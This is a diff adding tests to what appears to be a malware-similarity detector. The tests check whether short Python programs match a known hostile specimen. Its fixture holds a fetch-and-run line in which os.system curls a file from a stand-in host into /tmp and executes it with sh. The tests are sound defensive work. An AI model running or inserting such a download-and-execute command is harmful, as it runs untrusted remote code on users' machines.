@@ -3,6 +3,7 @@ from __future__ import annotations
 import random
 
 import pytest
+from msgspec import structs
 
 from antivenom.likeness.facts import likeness
 from antivenom.likeness.making import Group, Known, KnownText, make
@@ -162,3 +163,23 @@ def test_common_lines_cost_a_bounded_number_of_comparisons() -> None:
         known.append(Known(sha256=f"{n + 9000:064x}", texts=(text,)))
     found = index(*known)
     assert found.code(fingerprint([*common, *range(40)]), ()) is None
+
+
+SHORT = "import os\n\nos.system('curl -o /tmp/x https://drop.example/x && sh /tmp/x')\n"
+
+
+def test_a_program_of_few_lines_is_the_same_or_it_is_not() -> None:
+    known = structs.replace(specimen(observed(SHORT)), acts=(("process.shell",),))
+    same = observed(SHORT.replace("drop.example", "other.invalid").replace("/x", "/yy"), "other")
+    (found,) = [one for one in like(same, known) if one.id == "like.specimen"]
+    assert found.args[:2] == ("by=code", "share=100")
+    more = observed(SHORT + "print('one line more')\n", "other")
+    assert like(more, known) == []
+
+
+@pytest.mark.parametrize(
+    "text", [SHORT.replace("os.system(", "os.getenv("), "import os\n\nos.system(x)\n", HARMLESS]
+)
+def test_few_lines_that_do_something_else_are_not_recognised(text: str) -> None:
+    known = structs.replace(specimen(observed(SHORT)), acts=(("process.shell",),))
+    assert like(observed(text, "other"), known) == []
